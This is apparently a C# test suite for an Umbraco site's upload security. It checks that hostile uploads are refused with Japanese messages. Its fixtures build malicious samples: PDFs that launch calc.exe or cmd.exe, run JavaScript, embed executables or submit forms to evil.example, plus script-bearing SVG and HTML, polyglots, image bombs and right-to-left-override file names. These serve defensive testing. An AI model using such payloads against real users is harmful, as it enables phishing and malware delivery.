using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Microsoft.Extensions.DependencyInjection;
using SkiaSharp;
using Umbraco.Cms.Core;
using Umbraco.Cms.Core.IO;
using Umbraco.Cms.Core.PropertyEditors;
using Umbraco.Cms.Core.Services;
using Umbraco.Cms.Core.Strings;
using Umbraco.Extensions;
using Zaitaku.Web.Seed;
using Zaitaku.Web.Tests.Infrastructure;

namespace Zaitaku.Web.Tests.Media;

/// <summary>
/// The upload corpus of the old engine's UploadSecurityTests (issue 11; issue 24, item 5), through Umbraco's own
/// endpoints as the backoffice sends them: the Management API's temporary-file upload, then media create. Each bad
/// file gets a 400 with our reason in Japanese, and nothing of it stays in the media folder.
/// </summary>
public sealed class UploadSecurityTests(SharedSite site) : IClassFixture<SharedSite>
{
    public static readonly Guid ImageType = new("cc07b313-0843-4aa8-bbda-871c8da728c8");
    public static readonly Guid ArticleType = new("a43e3414-9599-4230-a7d3-943a21b20122");
    public static readonly Guid SharedFolder = ContentSeed.KeyFor("media/");

    private MediaFileManager MediaFiles => site.Factory.Services.GetRequiredService<MediaFileManager>();

    /// <summary>
    /// Files of this name in the media folder and in Umbraco's temporary files (other tests add files of their own
    /// names at the same time).
    /// </summary>
    private string[] StoredFiles(string fileName)
    {
        var roots = new[] { MediaFiles.FileSystem.GetFullPath(""), Path.Combine(site.Factory.ContentRoot, "umbraco", "Data", "TEMP") };
        return roots.Where(Directory.Exists)
            .SelectMany(r => Directory.GetFiles(r, "*", SearchOption.AllDirectories))
            .Where(f => Path.GetFileNameWithoutExtension(f).Contains(Path.GetFileNameWithoutExtension(fileName), StringComparison.Ordinal))
            .Order().ToArray();
    }

    /// <summary>The reason the editor sees: the problem details' title and detail.</summary>
    private static async Task<string> ReasonAsync(HttpResponseMessage response)
    {
        var json = JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement;
        return json.GetProperty("title").GetString() + "\n" + (json.TryGetProperty("detail", out var d) ? d.GetString() : "");
    }

    private static async Task<HttpResponseMessage> UploadAsync(string fileName, byte[] bytes) =>
        await (await ManagementApi.AsAdminAsync()).UploadTemporaryFileAsync(Guid.NewGuid(), fileName, bytes);

    /// <summary>Uploads and creates a media item as the backoffice does; returns its key.</summary>
    internal static async Task<Guid> CreateGoodAsync(string fileName, byte[] bytes, Guid type, string? name = null)
    {
        var api = await ManagementApi.AsAdminAsync();
        var temporary = Guid.NewGuid();
        var upload = await api.UploadTemporaryFileAsync(temporary, fileName, bytes);
        Assert.True(upload.IsSuccessStatusCode, $"{(int)upload.StatusCode} {await upload.Content.ReadAsStringAsync()}");
        var key = Guid.NewGuid();
        var created = await api.CreateMediaAsync(key, type, SharedFolder, name ?? Path.GetFileNameWithoutExtension(fileName), temporary,
            type == ImageType ? [("altText", "説明の文")] : null);
        Assert.True(created.IsSuccessStatusCode, $"{(int)created.StatusCode} {await created.Content.ReadAsStringAsync()}");
        return key;
    }

    internal static string Url(SiteFactory factory, Guid key)
    {
        var media = factory.Services.GetRequiredService<IMediaService>().GetById(key)!;
        var value = media.GetValue<string>(Constants.Conventions.Media.File)!;
        return value.TrimStart().StartsWith('{') ? JsonDocument.Parse(value).RootElement.GetProperty("src").GetString()! : value;
    }

    private const string Stream = "<< /Length 20 >>\nstream\napp.alert('x'); 1;\nendstream";

    public static TheoryData<string, string> HostilePdfs() => new()
    {
        { "launch-indirect-hex-name", "ほかのアプリを起動する設定" },
        { "launch-in-object-stream", "ほかのアプリを起動する設定" },
        { "xfa-with-script", "XFA フォーム" },
        { "embedded-files", "埋め込まれたファイル" },
        { "goto-embedded", "ほかのファイルや埋め込まれたファイルを開く設定" },
        { "submit-form", "入力内容をどこかへ送信する設定" },
        { "import-data", "外からデータを読み込む設定" },
        { "uri-open-action", "開いたときに自動で動く設定（URI）" },
        { "javascript-hex-escaped", "JavaScript" },
        { "page-open-action", "開いたときなどに自動で動く設定" },
        { "file-attachment-annotation", "埋め込まれたファイル" },
        { "javascript-link", "ウェブページ以外を開くリンク" },
        { "sound-annotation", "ページに置かれた「Sound」" },
    };

    internal static byte[] Hostile(string kind) => kind switch
    {
        "launch-indirect-hex-name" => PdfBuilder.Document("/OpenAction 4 0 R", more: ["<< /S 5 0 R /F (calc.exe) >>", "/Laun#63h"]),
        "launch-in-object-stream" => PdfBuilder.Document(pageExtra: "/Annots [4 0 R]",
            more: ["<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 5 0 R >>", "<< /S 6 0 R /F (cmd.exe) >>", "/Laun#63h"], compressed: [1, 2, 3, 4, 5, 6]),
        "xfa-with-script" => PdfBuilder.Document("/AcroForm << /Fields [] /XFA 4 0 R >>",
            more: ["<< /Length 58 >>\nstream\n<xdp:xdp><template><script>app.alert(1)</script></template>\nendstream"]),
        "embedded-files" => PdfBuilder.Document("/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
            more: ["<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"]),
        "goto-embedded" => PdfBuilder.Document("/OpenAction << /S /GoToE /NewWindow true /T << /R /C /N (inner.pdf) >> >>"),
        "submit-form" => PdfBuilder.Document("/AcroForm << /Fields [4 0 R] >>", "/Annots [4 0 R]",
            ["<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [0 0 100 20] /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >> >>"]),
        "import-data" => PdfBuilder.Document("/OpenAction << /S /ImportData /F (data.fdf) >>"),
        "uri-open-action" => PdfBuilder.Document("/OpenAction << /S /URI /URI (https://evil.example/login) >>"),
        "javascript-hex-escaped" => PdfBuilder.Document("/OpenAction << /S /Java#53cript /#4A#53 4 0 R >>", more: [Stream]),
        "page-open-action" => PdfBuilder.Document(pageExtra: "/AA << /O << /S /URI /URI (https://evil.example/) >> >>"),
        "file-attachment-annotation" => PdfBuilder.Document(pageExtra: "/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS (a.exe) >>]"),
        "javascript-link" => PdfBuilder.Document(pageExtra: "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 20 20] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]"),
        "sound-annotation" => PdfBuilder.Document(pageExtra: "/Annots [<< /Type /Annot /Subtype /Sound /Rect [0 0 20 20] >>]"),
        _ => throw new ArgumentOutOfRangeException(nameof(kind)),
    };

    [Theory]
    [MemberData(nameof(HostilePdfs))]
    public async Task A_pdf_with_active_or_embedded_content_is_refused_in_japanese_and_nothing_is_stored(string kind, string what)
    {
        var before = StoredFiles("お知らせ.pdf");

        var response = await UploadAsync("お知らせ.pdf", Hostile(kind));

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var reason = await ReasonAsync(response);
        Assert.Contains("安全のため登録できません", reason);
        Assert.Contains(what, reason);
        Assert.Equal(before, StoredFiles("お知らせ.pdf"));
    }

    public static TheoryData<string, string, string> HostileFiles() => new()
    {
        { "script.svg", "svg", "SVG 画像は、中にプログラムを含められるため登録できません" },
        { "photo.jpg", "polyglot", "ウェブページやプログラムの一部が埋め込まれています" },
        { "photo.jpg", "exe", "このファイルはプログラムです" },
        { "page.html", "html", "ファイルの中身で判断しています" },
        { "huge.png", "png-bomb", "50000×50000ピクセル）が上限を超えています" },
        { "wide.png", "png-60mp", "12000×5000ピクセル）が上限を超えています" },
        { "cut.jpg", "truncated", "途中で切れているか壊れている" },
        { "locked.pdf", "encrypted", "暗号化された" },
        { "empty.pdf", "empty", "ファイルが空です" },
    };

    private static byte[] HostileFile(string kind) => kind switch
    {
        "svg" => MediaSamples.SvgWithScript(),
        "polyglot" => MediaSamples.HtmlJpegPolyglot(),
        "exe" => MediaSamples.ExeNamedJpg(),
        "html" => Encoding.UTF8.GetBytes("<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"),
        "png-bomb" => MediaSamples.PngBomb(),
        "png-60mp" => FlatPng(12_000, 5_000),
        "truncated" => MediaSamples.TruncatedJpeg(),
        "encrypted" => MediaSamples.EncryptedPdf(),
        "empty" => [],
        _ => throw new ArgumentOutOfRangeException(nameof(kind)),
    };

    [Theory]
    [MemberData(nameof(HostileFiles))]
    public async Task Svg_html_polyglots_programs_image_bombs_and_broken_files_are_refused_by_their_bytes(string fileName, string kind, string message)
    {
        var before = StoredFiles(fileName);

        var response = await UploadAsync(fileName, HostileFile(kind));

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains(message, await ReasonAsync(response));
        Assert.Equal(before, StoredFiles(fileName));
    }

    [Theory]
    [InlineData("\u202E")]
    [InlineData("\u202A")]
    [InlineData("\u2066")]
    [InlineData("\u2069")]
    [InlineData("\u200E")]
    [InlineData("\u200F")]
    [InlineData("\u0007")]
    [InlineData("\u0085")]
    public async Task A_file_name_with_invisible_or_direction_characters_is_refused(string invisible)
    {
        var response = await UploadAsync($"資料{invisible}fdp.exe.pdf", PdfBuilder.Document());

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains($"U+{(int)invisible[0]:X4}", await ReasonAsync(response));
    }

    [Fact]
    public async Task Three_editors_adding_photos_at_the_same_moment_each_get_theirs_stored()
    {
        // Three different photos (the check remembers verdicts by content, so the same file thrice would decode once).
        var photos = Enumerable.Range(0, 3).Select(i => MediaSamples.Jpeg(1600 + i * 8, 1200)).ToArray();

        var keys = await Task.WhenAll(photos.Select((bytes, i) => CreateGoodAsync($"onaji-jikan-{i}.jpg", bytes, ImageType, $"同じ時刻の写真{i}")));

        var media = site.Factory.Services.GetRequiredService<IMediaService>();
        foreach (var key in keys) Assert.True(File.Exists(MediaFiles.FileSystem.GetFullPath(MediaFiles.FileSystem.GetRelativePath(Url(site.Factory, key)))));
        Assert.Equal(3, keys.Select(k => media.GetById(k)?.Name).Where(n => n?.StartsWith("同じ時刻の写真", StringComparison.Ordinal) == true).Distinct().Count());
    }

    [Fact(Skip = "Known bug, open: once in five runs under load, one of three identical uploads at once hung until the client gave up (docs/umbraco-media.md, Saves at the same moment)")]
    public async Task The_same_photo_added_three_times_at_once_is_stored_three_times()
    {
        var photo = MediaSamples.Jpeg(1500, 1000);

        var keys = await Task.WhenAll(Enumerable.Range(0, 3).Select(i => CreateGoodAsync($"sanmai-{i}.jpg", photo, ImageType, $"三枚の写真{i}")));

        foreach (var key in keys)
        {
            var path = MediaFiles.FileSystem.GetFullPath(MediaFiles.FileSystem.GetRelativePath(Url(site.Factory, key)));
            using var bitmap = SKBitmap.Decode(path);
            Assert.Equal(1500, bitmap.Width);
        }
    }

    [Fact]
    public async Task A_media_name_with_a_direction_override_is_refused_and_its_file_removed()
    {
        var api = await ManagementApi.AsAdminAsync();
        var temporary = Guid.NewGuid();
        Assert.True((await api.UploadTemporaryFileAsync(temporary, "shiryou.pdf", PdfBuilder.Document())).IsSuccessStatusCode);

        var created = await api.CreateMediaAsync(Guid.NewGuid(), ArticleType, SharedFolder, "資料\u202Efdp.exe", temporary);

        Assert.Equal(HttpStatusCode.BadRequest, created.StatusCode);
        var reason = await ReasonAsync(created);
        Assert.Contains("U+202E", reason);
        Assert.Contains("名前を付け直して", reason);
        var media = MediaFiles.FileSystem.GetFullPath("");
        var left = Directory.GetFiles(media, "*", SearchOption.AllDirectories).Where(f => Path.GetFileName(f) == "shiryou.pdf").ToList();
        Assert.True(left.Count == 0, "left behind: " + string.Join(", ", left.Select(f => Path.GetRelativePath(media, f))));
    }

    [Fact]
    public async Task A_hostile_pdf_saved_through_the_media_service_is_cancelled_and_its_file_removed()
    {
        // The content seed and any code of ours save media this way, without a temporary file.
        var services = site.Factory.Services;
        var mediaService = services.GetRequiredService<IMediaService>();
        var folder = mediaService.GetById(SharedFolder)!;
        var media = mediaService.CreateMedia("危ない資料", folder.Id, Constants.Conventions.MediaTypes.ArticleAlias);
        using (var stream = new MemoryStream(Hostile("launch-indirect-hex-name")))
            media.SetValue(MediaFiles, services.GetRequiredService<MediaUrlGeneratorCollection>(), services.GetRequiredService<IShortStringHelper>(),
                services.GetRequiredService<IContentTypeBaseServiceProvider>(), Constants.Conventions.Media.File, "abunai.pdf", stream);
        var written = MediaFiles.FileSystem.GetRelativePath(media.GetValue<string>(Constants.Conventions.Media.File)!);
        Assert.True(MediaFiles.FileSystem.FileExists(written));

        var result = mediaService.Save(media);

        Assert.False(result.Success);
        Assert.Contains(result.Result!.EventMessages!.GetAll(), m => m.Message.Contains("ほかのアプリを起動する設定"));
        Assert.False(MediaFiles.FileSystem.FileExists(written));
        Assert.Null(mediaService.GetById(media.Key));
    }

    [Fact]
    public async Task A_photo_is_stored_upright_without_exif_or_gps_and_with_its_size_recorded()
    {
        var key = await CreateGoodAsync("kouen.jpg", MediaSamples.JpegWithGpsAndOrientation(600, 400), ImageType);

        var stored = await site.Client.GetByteArrayAsync(Url(site.Factory, key));

        var text = Encoding.ASCII.GetString(stored);
        Assert.DoesNotContain("Exif", text);
        Assert.DoesNotContain("2026:11:24", text); // the GPS date stamp
        using var bitmap = SKBitmap.Decode(stored);
        Assert.Equal((400, 600), (bitmap.Width, bitmap.Height)); // turned as its EXIF said, before the EXIF was dropped
        var media = site.Factory.Services.GetRequiredService<IMediaService>().GetById(key)!;
        Assert.Equal(400, media.GetValue<int>(Constants.Conventions.Media.Width));
        Assert.Equal(600, media.GetValue<int>(Constants.Conventions.Media.Height));
        Assert.Equal(stored.Length, media.GetValue<long>(Constants.Conventions.Media.Bytes));
    }

    [Fact]
    public async Task A_large_png_within_the_png_limit_is_stored_scaled_down()
    {
        var key = await CreateGoodAsync("large.png", FlatPng(5_000, 4_000), ImageType);

        var stored = await site.Client.GetByteArrayAsync(Url(site.Factory, key));

        using var bitmap = SKBitmap.Decode(stored);
        Assert.Equal((3200, 2560), (bitmap.Width, bitmap.Height));
        Assert.Equal(new SKColor(0x20, 0x80, 0xC0), bitmap.GetPixel(1600, 1000));
    }

    [Fact]
    public async Task A_png_named_jpg_is_stored_under_the_extension_of_what_it_is()
    {
        var key = await CreateGoodAsync("really-a-png.jpg", MediaSamples.Png(300, 200), ImageType);

        var url = Url(site.Factory, key);

        Assert.EndsWith(".png", url);
        var response = await site.Client.GetAsync(url);
        Assert.Equal("image/png", response.Content.Headers.ContentType!.MediaType);
    }

    /// <summary>A one-colour PNG: it compresses to almost nothing, whatever its size.</summary>
    public static byte[] FlatPng(int width, int height)
    {
        using var bitmap = new SKBitmap(new SKImageInfo(width, height, SKColorType.Rgba8888, SKAlphaType.Opaque));
        bitmap.Erase(new SKColor(0x20, 0x80, 0xC0));
        using var data = bitmap.Encode(SKEncodedImageFormat.Png, 9);
        return data.ToArray();
    }
}
